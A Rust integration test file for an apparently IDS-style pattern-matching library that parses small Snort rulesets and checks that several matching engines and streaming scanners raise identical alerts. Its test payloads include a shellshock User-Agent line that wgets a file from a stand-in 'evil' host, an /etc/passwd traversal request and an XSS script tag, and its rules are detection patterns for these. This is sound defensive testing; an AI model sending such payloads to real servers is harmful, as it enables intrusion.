//! Integration test: from Snort rule text all the way to alerts, using the
//! rule parser instead of the synthetic generators — both the flat pattern
//! view (`parse_rules`) and the multi-content rule view (`parse_ruleset`
//! with positional constraints, confirmed end-to-end through the sharded
//! streaming surface).

use vpatch_suite::patterns::rule::naive_rule_find_all;
use vpatch_suite::patterns::snort::{parse_grouped, parse_rules, parse_ruleset, ParseOptions};
use vpatch_suite::prelude::*;

const RULES: &str = r#"
# A miniature web ruleset in Snort syntax.
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"ETC PASSWD access"; content:"/etc/passwd"; sid:1000001;)
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"shellshock"; content:"() { :;};"; sid:1000002;)
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"XSS"; content:"<script>"; nocase; sid:1000003;)
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"cmd exe"; content:"cmd.exe"; sid:1000004;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 445 (msg:"binary blob"; content:"|de ad be ef|"; sid:1000005;)
alert tcp $HOME_NET any -> $EXTERNAL_NET 25 (msg:"mail probe"; content:"VRFY root"; sid:1000006;)
"#;

#[test]
fn parsed_ruleset_drives_all_engines_identically() {
    let rules = parse_rules(RULES, ParseOptions::default()).expect("rules parse");
    assert_eq!(rules.len(), 6);

    // The HTTP selection is what the rule headers apply to on a web flow:
    // the web rules, not the SMB/SMTP ones.
    let grouped =
        GroupedRuleSet::new(parse_grouped(RULES, ParseOptions::default()).expect("rules parse"));
    let web = grouped.applicable_rules(FlowTuple::new(Proto::Tcp, 40000, 80));
    assert_eq!(web.len(), 4);
    let anchors = grouped.monolithic().anchors();
    let http: PatternSet = web
        .iter()
        .map(|rule| anchors.get(PatternId(rule.0)).clone())
        .collect();

    let mut payload = Vec::new();
    payload.extend_from_slice(b"GET /index.php?q=<script>alert(1)</script> HTTP/1.1\r\n");
    payload.extend_from_slice(b"User-Agent: () { :;}; wget http://evil/x -O /tmp/cmd.exe\r\n\r\n");
    payload.extend_from_slice(&[0xde, 0xad, 0xbe, 0xef]);
    payload.extend_from_slice(b" ... /etc/passwd ... VRFY root\r\n");

    let reference = NaiveMatcher::new(&rules).find_all(&payload);
    assert_eq!(reference.len(), 6, "every rule should fire exactly once");

    let engines: Vec<Box<dyn Matcher + Send + Sync>> = vec![
        Box::new(DfaMatcher::build(&rules)),
        Box::new(Dfc::build(&rules)),
        Box::new(SPatch::build(&rules)),
        build_auto(&rules),
    ];
    for engine in engines {
        assert_eq!(engine.find_all(&payload), reference, "{}", engine.name());
    }

    // The HTTP-only selection must not fire the SMB/SMTP signatures.
    let http_engine = build_auto(&http);
    let http_alerts = http_engine.find_all(&payload);
    assert_eq!(http_alerts.len(), 4);
}

#[test]
fn nocase_rules_fire_on_case_varied_traffic_end_to_end() {
    let rules = parse_rules(RULES, ParseOptions::default()).expect("rules parse");
    assert!(rules.has_nocase(), "the XSS rule carries nocase;");

    // Case-varied attack: the nocase <script> rule must fire on <ScRiPt>,
    // while the case-sensitive cmd.exe rule must NOT fire on CMD.EXE.
    let payload = b"GET /?q=<ScRiPt>alert(1)</script> CMD.EXE cmd.exe HTTP/1.1";
    let reference = NaiveMatcher::new(&rules).find_all(payload);
    let fired: Vec<&str> = reference
        .iter()
        .map(|m| match m.pattern.0 {
            2 => "<script>",
            3 => "cmd.exe",
            _ => "other",
        })
        .collect();
    assert_eq!(fired, vec!["<script>", "cmd.exe"]);

    for engine in [
        Box::new(DfaMatcher::build(&rules)) as Box<dyn Matcher + Send + Sync>,
        Box::new(WuManber::build(&rules)),
        Box::new(Dfc::build(&rules)),
        Box::new(SPatch::build(&rules)),
        build_auto(&rules),
    ] {
        assert_eq!(engine.find_all(payload), reference, "{}", engine.name());
    }

    // Same semantics through the sharded streaming surface, with the match
    // cut across packets and the flow table capped.
    let engine: SharedMatcher = std::sync::Arc::from(build_auto(&rules));
    let mut sharded = ScannerBuilder::new()
        .engine(engine, &rules)
        .workers(2)
        .max_flows(1024)
        .build()
        .expect("valid build");
    let result = sharded
        .scan_batch(vec![
            Packet::new(7, b"GET /?q=<ScR".to_vec()),
            Packet::new(7, b"iPt>alert(1)".to_vec()),
        ])
        .expect("workers alive");
    assert_eq!(result.matches.len(), 1);
    assert_eq!(result.matches[0].event.start, 8);
}

const MULTI_CONTENT_RULES: &str = r#"
# Multi-content rules with positional constraints.
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"traversal"; content:"GET "; content:"/etc/passwd"; distance:0; sid:2000001;)
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"shellshock UA"; content:"User-Agent:"; content:"() {"; distance:0; within:40; sid:2000002;)
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"early POST"; content:"POST"; offset:0; depth:4; content:"upload"; nocase; sid:2000003;)
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"single"; content:"cmd.exe"; sid:2000004;)
"#;

#[test]
fn multi_content_rules_confirm_end_to_end() {
    let set = parse_ruleset(MULTI_CONTENT_RULES, ParseOptions::default()).expect("rules parse");
    assert_eq!(set.len(), 4);
    assert_eq!(set.get(RuleId(0)).sid(), Some(2_000_001));

    let mut payload = Vec::new();
    payload.extend_from_slice(b"GET /etc/passwd HTTP/1.1\r\n");
    payload.extend_from_slice(b"User-Agent: () { :;}; wget evil\r\n\r\n");
    payload.extend_from_slice(b"cmd.exe");
    // Rule 2 must NOT fire: "POST" absent at offset 0. Rules 0, 1, 3 fire.
    let expected = naive_rule_find_all(&set, &payload);
    let fired: Vec<u32> = expected.iter().map(|m| m.rule.0).collect();
    assert_eq!(fired, vec![0, 1, 3]);

    // One-shot, through the paper's engine.
    let scanner = RuleScanner::new(std::sync::Arc::from(build_auto(set.anchors())), &set);
    assert_eq!(scanner.scan_rules(&payload), expected);
    // Anchor hits (the Matcher view) keep flowing alongside.
    assert!(!scanner.scan(&payload).is_empty());

    // Streamed, with every rule's contents split across pushes.
    let engine: SharedMatcher = std::sync::Arc::from(build_auto(set.anchors()));
    let mut streamed = RuleStreamScanner::new(engine, &set);
    let (mut anchors, mut rules) = (Vec::new(), Vec::new());
    for chunk in payload.chunks(7) {
        streamed.push(chunk, &mut anchors, &mut rules);
    }
    rules.sort_unstable();
    assert_eq!(rules, expected);

    // Sharded: one flow split mid-constraint-window, one clean flow.
    let engine: SharedMatcher = std::sync::Arc::from(build_auto(set.anchors()));
    let mut sharded = ScannerBuilder::new()
        .rules(engine, &set)
        .workers(2)
        .build()
        .expect("valid build");
    let result = sharded
        .scan_batch(vec![
            Packet::new(1, payload[..20].to_vec()),
            Packet::new(2, b"POST /upload HTTP/1.1 UPLOAD".to_vec()),
            Packet::new(1, payload[20..].to_vec()),
        ])
        .expect("workers alive");
    let flow1: Vec<u32> = result
        .rule_matches
        .iter()
        .filter(|m| m.flow == 1)
        .map(|m| m.rule.0)
        .collect();
    assert_eq!(
        flow1,
        vec![0, 1, 3],
        "flow 1 confirms across the packet seam"
    );
    let flow2: Vec<u32> = result
        .rule_matches
        .iter()
        .filter(|m| m.flow == 2)
        .map(|m| m.rule.0)
        .collect();
    assert_eq!(
        flow2,
        vec![2],
        "flow 2 confirms the POST rule (nocase upload)"
    );
}

#[test]
fn pattern_view_and_rule_view_agree_on_single_content_rules() {
    // For rules with one content and no constraints, the rule layer must
    // degenerate to plain pattern matching: same hits, same offsets.
    let set = parse_ruleset(RULES, ParseOptions::default()).expect("rules parse");
    let patterns = parse_rules(
        RULES,
        ParseOptions {
            longest_content_only: false,
            ..ParseOptions::default()
        },
    )
    .expect("rules parse");
    assert_eq!(set.len(), patterns.len());
    let payload = b"x /etc/passwd y cmd.exe z VRFY root";
    let pattern_hits = NaiveMatcher::new(&patterns).find_all(payload);
    let scanner = RuleScanner::new(std::sync::Arc::from(build_auto(set.anchors())), &set);
    let rule_hits = scanner.scan_rules(payload);
    assert_eq!(rule_hits.len(), pattern_hits.len());
    for m in &rule_hits {
        let p = &patterns.patterns()[m.rule.index()];
        assert!(
            pattern_hits
                .iter()
                .any(|h| h.pattern.index() == m.rule.index() && h.start + p.len() == m.end),
            "rule {} must end where its single content matches",
            m.rule
        );
    }
}

#[test]
fn contiguous_hex_contents_parse_and_match() {
    // Snort-legal contiguous hex: |DEADBEEF| == |de ad be ef|.
    let rule = r#"alert tcp any any -> any 445 (msg:"blob"; content:"|DEADBEEF|"; sid:1;)"#;
    let rules = parse_rules(rule, ParseOptions::default()).expect("contiguous hex parses");
    assert_eq!(rules.len(), 1);
    let engine = build_auto(&rules);
    let mut payload = b"....".to_vec();
    payload.extend_from_slice(&[0xde, 0xad, 0xbe, 0xef]);
    assert_eq!(engine.count(&payload), 1);
}
